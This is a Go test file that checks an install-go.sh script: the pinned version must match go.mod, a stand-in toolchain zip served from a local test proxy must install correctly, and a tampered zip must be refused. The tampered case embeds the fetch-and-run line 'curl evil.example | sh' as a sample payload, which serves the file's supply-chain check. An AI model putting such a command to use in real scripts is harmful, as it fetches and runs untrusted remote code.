package gotoolchain

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"
)

// script is the script under test, from this package's directory.
const script = "../../../scripts/install-go.sh"

// pinned reads a variable's value from install-go.sh.
func pinned(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(script)
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`(?m)^` + name + `="?([^"\n]+)"?$`).FindSubmatch(b)
	if m == nil {
		t.Fatalf("install-go.sh sets no %s", name)
	}
	return string(m[1])
}

// The toolchain the script installs is the one go.mod asks for.
func TestPinnedVersionIsGoMod(t *testing.T) {
	b, err := os.ReadFile("../../../go.mod")
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`(?m)^go (\S+)$`).FindSubmatch(b)
	if m == nil {
		t.Fatal("go.mod has no go line")
	}
	if v := pinned(t, "GO_VERSION"); v != string(m[1]) {
		t.Errorf("install-go.sh pins Go %s, go.mod says %s: update GO_VERSION and GO_H1_amd64 together", v, m[1])
	}
}

// toolchainZip is a stand-in for golang.org/toolchain's zip: a go that
// prints its version, and a tool; with its h1 hash.
func toolchainZip(t *testing.T, version, extra string) ([]byte, string) {
	t.Helper()
	prefix := "golang.org/toolchain@v0.0.1-go" + version + ".linux-amd64/"
	files := map[string]string{
		prefix + "bin/go":                       "#!/bin/sh\n[ \"$1 $2\" = 'env GOVERSION' ] && echo go" + version + "\n",
		prefix + "pkg/tool/linux_amd64/compile": "#!/bin/sh\n" + extra,
		prefix + "VERSION":                      "go" + version + "\n",
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	var names []string
	for name, body := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(body))
		names = append(names, name)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	// dirhash.Hash1, as golang.org/x/mod/sumdb/dirhash defines it.
	sort.Strings(names)
	h := sha256.New()
	for _, name := range names {
		fmt.Fprintf(h, "%x  %s\n", sha256.Sum256([]byte(files[name])), name)
	}
	return buf.Bytes(), "h1:" + base64.StdEncoding.EncodeToString(h.Sum(nil))
}

// install-go.sh against a stand-in proxy: a host without Go gets the
// toolchain, executable; a zip whose hash is not the pinned one installs
// nothing; a recent enough Go is left alone without a download.
func TestInstallGo(t *testing.T) {
	for _, tool := range []string{"bash", "curl", "unzip", "perl", "base64", "sha256sum"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed: the script needs it", tool)
		}
	}
	version := pinned(t, "GO_VERSION")
	good, h1 := toolchainZip(t, version, "")
	var mu sync.Mutex
	var served []string
	body := good
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		served = append(served, r.URL.Path)
		b := body
		mu.Unlock()
		if r.URL.Path != "/golang.org/toolchain/@v/v0.0.1-go"+version+".linux-amd64.zip" {
			http.NotFound(w, r)
			return
		}
		w.Write(b)
	}))
	defer srv.Close()
	run := func(dest string) (string, error) {
		cmd := exec.Command("bash", script)
		// A PATH without the Go this test runs with.
		cmd.Env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "GOPROXY_URL=" + srv.URL, "GO_DEST=" + dest, "GO_TOOLCHAIN_H1=" + h1, "HOME=" + t.TempDir()}
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if _, err := exec.LookPath("go"); err == nil {
		if p, _ := exec.LookPath("go"); strings.HasPrefix(p, "/usr/bin") || strings.HasPrefix(p, "/bin") {
			t.Skip("a go in /usr/bin would be found first: this test needs a PATH without Go")
		}
	}

	dest := filepath.Join(t.TempDir(), "go")
	out, err := run(dest)
	if err != nil {
		t.Fatalf("install: %v\n%s", err, out)
	}
	if v, err := exec.Command(filepath.Join(dest, "bin", "go"), "env", "GOVERSION").Output(); err != nil || strings.TrimSpace(string(v)) != "go"+version {
		t.Fatalf("installed go says %q, %v\n%s", v, err, out)
	}
	if fi, err := os.Stat(filepath.Join(dest, "pkg", "tool", "linux_amd64", "compile")); err != nil || fi.Mode()&0o100 == 0 {
		t.Errorf("the tool is not executable: %v %v", fi, err)
	}

	// Already there: nothing fetched.
	mu.Lock()
	served = nil
	mu.Unlock()
	if out, err := run(dest); err != nil || !strings.Contains(out, "recent enough") {
		t.Errorf("re-run: %v\n%s", err, out)
	}
	if len(served) != 0 {
		t.Errorf("a re-run downloaded %v", served)
	}

	// A tampered zip installs nothing.
	tampered, _ := toolchainZip(t, version, "curl evil.example | sh\n")
	mu.Lock()
	body = tampered
	mu.Unlock()
	fresh := filepath.Join(t.TempDir(), "go")
	out, err = run(fresh)
	if err == nil || !strings.Contains(out, "not the pinned") {
		t.Errorf("tampered zip: %v\n%s", err, out)
	}
	if _, err := os.Stat(fresh); err == nil {
		t.Errorf("a refused toolchain left %s", fresh)
	}
}
